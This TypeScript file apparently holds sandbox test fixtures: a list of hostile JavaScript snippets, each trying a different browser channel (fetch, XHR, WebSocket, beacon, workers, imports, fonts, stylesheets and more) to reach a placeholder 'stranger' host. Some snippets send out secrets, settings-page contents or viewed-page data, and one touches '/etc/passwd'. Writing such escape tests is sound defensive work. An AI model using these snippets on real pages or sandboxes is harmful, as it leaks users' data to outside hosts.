import type { Family } from './hostile-code.ts';

/** Tries to reach a stranger by each way out that some engine has. */
export const EXFILTRATION: Family = {
  fetch: "fetch('{{stranger}}/?' + Math.random());",
  'fetch without cors':
    "fetch('{{stranger}}/', { method: 'POST', mode: 'no-cors', body: 'secret' });",
  'fetch that outlives the page':
    "fetch('{{stranger}}/', { keepalive: true, method: 'POST', body: 'x' });",
  'fetch of the panel':
    "fetch('/settings').then((r) => r.text()).then((t) => fetch('{{stranger}}/', { method: 'POST', body: t }));",
  'fetch off the prototype':
    "let p = self; while (p) { try { p.fetch?.('{{stranger}}/'); } catch {} p = Object.getPrototypeOf(p); }",
  'fetch by reflection':
    "for (const k of Reflect.ownKeys(self)) { try { if (/fetch/i.test(String(k))) self[k]('{{stranger}}/'); } catch {} }",
  'request object': "new Request('{{stranger}}/');",
  'xml http request':
    "const x = new XMLHttpRequest(); x.open('POST', '{{stranger}}/', false); x.send('secret');",
  'xml http request in turns':
    "setInterval(() => { const x = new XMLHttpRequest(); x.open('GET', '{{stranger}}/'); x.send(); }, 1);",
  'web socket': "new WebSocket('{{stranger}}/'.replace('http', 'ws'));",
  'web socket stream': "new WebSocketStream('{{stranger}}/'.replace('http', 'ws'));",
  'web transport': "new WebTransport('{{stranger}}/'.replace('http:', 'https:'));",
  'event source': "new EventSource('{{stranger}}/');",
  beacon: "navigator.sendBeacon('{{stranger}}/', 'secret');",
  'peer connection':
    "const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:stranger.example:3478' }] }); c.createDataChannel('x'); c.createOffer().then((o) => c.setLocalDescription(o));",
  'script import': "importScripts('{{stranger}}/x.js');",
  'script import of data': "importScripts('data:text/javascript,panel.send(1)');",
  'script import off the prototype':
    "Object.getPrototypeOf(Object.getPrototypeOf(self)).importScripts.call(self, '{{stranger}}/x.js');",
  'module import': "import('{{stranger}}/x.js');",
  'module import of JSON': "import('{{stranger}}/x.json', { with: { type: 'json' } });",
  'module import of data': 'import(\'data:text/javascript,import("{{stranger}}/x.js")\');',
  'module import of the panel': "import('/stage.js');",
  'module import by a getter': "import({ toString: () => '{{stranger}}/late.js' });",
  'worker from afar': "new Worker('{{stranger}}/worker.js');",
  'worker from data': 'new Worker(\'data:text/javascript,fetch("{{stranger}}/")\');',
  'worker from a blob': 'new Worker(URL.createObjectURL(new Blob([\'fetch("{{stranger}}/")\'])));',
  'shared worker': "new SharedWorker('{{stranger}}/worker.js');",
  'service worker': "navigator.serviceWorker.register('{{stranger}}/sw.js');",
  worklet: "CSS.paintWorklet.addModule('{{stranger}}/x.js');",
  picture: "new Image().src = '{{stranger}}/x.png';",
  'picture by bitmap':
    'createImageBitmap(new Blob([\'<svg xmlns="http://www.w3.org/2000/svg"><image href="{{stranger}}/x.png"/></svg>\'], { type: \'image/svg+xml\' }));',
  font: "new FontFace('x', 'url({{stranger}}/x.woff2)').load();",
  'font of the worker':
    "const f = new FontFace('x', 'url({{stranger}}/x.woff2)'); self.fonts.add(f); f.load();",
  stylesheet:
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = '{{stranger}}/x.css'; document.head.append(l);",
  'constructed stylesheet': "new CSSStyleSheet().replace('@import url({{stranger}}/x.css)');",
  prefetch:
    "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = '{{stranger}}/x'; document.head.append(l);",
  preconnect:
    "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = '{{stranger}}'; document.head.append(l);",
  'speculation rules':
    'const s = document.createElement(\'script\'); s.type = \'speculationrules\'; s.text = \'{"prefetch":[{"urls":["{{stranger}}/"]}]}\'; document.head.append(s);',
  audio: "new Audio('{{stranger}}/x.mp3').play();",
  'styled log': "console.log('%cx', 'background: url({{stranger}}/x.png)');",
  'source map': "throw new Error('x'); //# sourceMappingURL={{stranger}}/x.map",
  'source address': "//# sourceURL={{stranger}}/x.js\nthrow new Error('x');",
  cache: "caches.open('x').then((c) => c.add('{{stranger}}/'));",
  'background fetch': "self.registration.backgroundFetch.fetch('x', ['{{stranger}}/']);",
  'reporting observer':
    "new ReportingObserver((r) => panel.send('{{stranger}}', r), { buffered: true }).observe();",
  'compute pressure': "new PressureObserver((r) => panel.send('{{stranger}}', r)).observe('cpu');",
  push: 'self.registration.pushManager.subscribe();',
  'wasm from afar': "WebAssembly.instantiateStreaming(fetch('{{stranger}}/x.wasm'));",
  'sending to a stranger': "panel.send('{{stranger}}', 'secret');",
  'sending with a declared name in front':
    "panel.send('{{stranger}}'.replace('//', '//declared.example@'), 'secret');",
  'sending to an address that is an object':
    "let n = 0; panel.send({ toString: () => (n++ ? '{{stranger}}' : 'https://declared.example') }, 'secret');",
  'sending to a relative address':
    "panel.send('//stranger.example/', 'secret'); panel.send('/login', 'email=a&password=b');",
  'sending to odd schemes':
    "for (const s of ['data:,x', 'blob:null/x', 'file:///etc/passwd', 'javascript:1', 'about:blank', 'ws://stranger.example']) panel.send(s, 1);",
  'sending to the origin null':
    "panel.send('null', 1); panel.send(null, 1); panel.send(undefined, 1); panel.send(Symbol.iterator.description, 1);",
  'sending what it saw':
    "panel.on('page.viewed', (seen) => panel.send('{{stranger}}/?' + JSON.stringify(seen), seen));",
};
